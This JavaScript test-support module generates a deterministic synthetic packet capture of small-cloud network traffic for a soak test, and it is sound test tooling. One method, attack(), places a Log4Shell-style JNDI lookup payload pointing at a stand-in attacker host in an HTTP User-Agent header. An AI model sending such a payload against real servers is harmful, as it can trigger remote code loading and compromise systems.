/**
 * Makes the capture that the soak plays: what a few hundred hosts of a small cloud network do in half a minute. Web
 * requests and downloads over whole TCP connections, DNS, pings, UDP datagrams in fragments, IPv6, and an attack now
 * and then. The same on every run. Packets are built by the test support.
 */
import { createHash } from 'node:crypto';
import { mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { cacheFolder } from './captures.mjs';
import { loadSupport } from './support.mjs';

const START_US = Date.UTC(2026, 10, 22, 9, 0, 0) * 1000;

/** xorshift32. @returns integers below `limit`. */
function randomSource(seed) {
  let state = seed;
  return (limit) => {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    return (state >>> 0) % limit;
  };
}

const WORDS =
  'the a of cloud item order invoice customer region bucket price table report index image style script update session'.split(
    ' ',
  );

class Town {
  constructor(support, random) {
    this.support = support;
    this.random = random;
  }

  host = (network) => `10.${network}.${this.random(4)}.${2 + this.random(250)}`;
  port = () => 32_768 + this.random(28_000);
  noise = (length) => Uint8Array.from({ length }, () => this.random(256));
  prose = (length) => {
    let text = '';
    while (text.length < length) text += `${WORDS[this.random(WORDS.length)]} `;
    return text.slice(0, length);
  };

  /** A connection with one to four requests for pages and files. */
  web(recording) {
    const { httpRequest, httpResponse } = this.support;
    const talk = recording.tcp(`${this.host(1)}:${this.port()}`, `${this.host(2)}:80`).open();
    for (let left = 1 + this.random(4); left > 0; left--) {
      talk.client(httpRequest(`GET /${this.prose(12).trim().replaceAll(' ', '/')}?id=${this.random(1000)}`));
      talk.server(httpResponse('200 OK', this.prose(200 + this.random(9000))));
    }
    talk.close();
  }

  /** A connection whose content nobody can read. */
  encrypted(recording) {
    const talk = recording.tcp(`${this.host(1)}:${this.port()}`, `${this.host(3)}:443`).open();
    talk.client(this.noise(517)).server(this.noise(3200)).client(this.noise(90));
    for (let left = this.random(5); left > 0; left--)
      talk.client(this.noise(120 + this.random(600))).server(this.noise(400 + this.random(12_000)));
    talk.close();
  }

  dns(recording) {
    const { dnsQuery, dnsResponse, ip } = this.support;
    const [client, name] = [`${this.host(1)}:${this.port()}`, `${WORDS[this.random(WORDS.length)]}.example.com`];
    const fields = { id: this.random(65_536) };
    recording.udp(client, '10.0.0.2:53', dnsQuery(name, fields));
    recording.wait(2).udp('10.0.0.2:53', client, dnsResponse(name, ip(this.host(2)), fields));
  }

  ping(recording) {
    const [from, to, id] = [`${this.host(1)}:0`, `${this.host(2)}:0`, this.random(65_536)];
    for (let seq = 0; seq < 3; seq++) {
      recording
        .icmp(from, to, { type: 8, id, seq }, this.prose(56))
        .icmp(to, from, { type: 0, id, seq }, this.prose(56))
        .wait(1000);
    }
  }

  /** A datagram of several fragments, once in a while out of order. */
  fragmented(recording) {
    const { ethernet, fragmentIpv4, ipv4, udp } = this.support;
    const payload = udp({ srcPort: this.port(), dstPort: 2049 }, this.noise(3000 + this.random(5000)));
    const parts = fragmentIpv4(ipv4({ src: this.host(1), dst: this.host(2), id: this.random(65_536) }, payload), 1500);
    if (this.random(5) === 0) parts.reverse();
    for (const part of parts) recording.add(ethernet({}, part));
  }

  ipv6(recording) {
    const { ethernet, ipv6, udp } = this.support;
    const [a, b, port] = [`2001:db8::${this.random(60_000).toString(16)}`, '2001:db8:1::53', this.port()];
    recording.add(ethernet({}, ipv6({ src: a, dst: b }, udp({ srcPort: port, dstPort: 5060 }, this.prose(300)))));
    recording.add(ethernet({}, ipv6({ src: b, dst: a }, udp({ srcPort: 5060, dstPort: port }, this.prose(400)))));
  }

  attack(recording) {
    const { httpRequest, httpResponse } = this.support;
    recording
      .tcp(`203.0.113.${1 + this.random(254)}:${this.port()}`, `${this.host(2)}:80`)
      .open()
      .client(httpRequest('GET /', { headers: { 'User-Agent': '${jndi:ldap://203.0.113.66:1389/x}' } }))
      .server(httpResponse('200 OK', 'ok'))
      .close();
  }
}

/** Of a connection of `connectionsCapture`, and connections that begin in the same round of exchanges. */
const EXCHANGES = 5;
const BEGUN_AT_ONCE = 8;

/** Of a hundred conversations; the frames of a kind weigh differently. */
const MIX = { web: 30, encrypted: 18, dns: 30, ping: 6, fragmented: 8, ipv6: 7, attack: 1 };

/** Path of a capture with exactly `packets` frames; made when it is not there. */
export async function trafficCapture(packets) {
  const source = readFileSync(new URL(import.meta.url), 'utf8');
  const file = join(
    cacheFolder,
    `soak-${packets}-${createHash('sha256').update(source).digest('hex').slice(0, 8)}.pcap`,
  );
  mkdirSync(cacheFolder, { recursive: true });
  if (readdirSync(cacheFolder).includes(file.slice(cacheFolder.length + 1))) return file;
  const support = await loadSupport();
  const town = new Town(support, randomSource(0x5eed));
  const kinds = Object.entries(MIX).flatMap(([kind, share]) => new Array(share).fill(kind));
  const frames = [];
  while (frames.length < packets + 2000) {
    const recording = new support.Recording(START_US + town.random(30_000_000));
    town[kinds[town.random(kinds.length)]](recording);
    frames.push(...recording.frames);
  }
  const inOrder = frames.toSorted((a, b) => a.timeUs - b.timeUs).slice(0, packets);
  writeFileSync(
    file,
    support.pcapFile(inOrder.map(({ timeUs, bytes }) => ({ timeNs: BigInt(timeUs) * 1000n, bytes }))),
  );
  return file;
}

/** Connections of equal length, some fifty at a time. @returns the file, and the packets of each connection. */
export async function connectionsCapture(connections, file) {
  const { Recording, pcapFile } = await loadSupport();
  const recording = new Recording();
  const talks = Array.from({ length: connections }, (_, i) =>
    recording.tcp(`10.1.${i >> 6}.${1 + (i & 63)}:${40_000 + i}`, `10.2.0.${1 + (i % 50)}:9000`),
  );
  const steps = [
    (talk) => talk.open(),
    ...new Array(EXCHANGES).fill((talk) => talk.client('ask '.repeat(50)).server('tell '.repeat(150))),
    (talk) => talk.close(),
  ];
  for (let round = 0; round < connections / BEGUN_AT_ONCE + steps.length; round++)
    for (const [i, talk] of talks.entries()) steps[round - Math.floor(i / BEGUN_AT_ONCE)]?.(talk);
  writeFileSync(file, pcapFile(recording.frames));
  return { file, packets: recording.frames.length / connections };
}
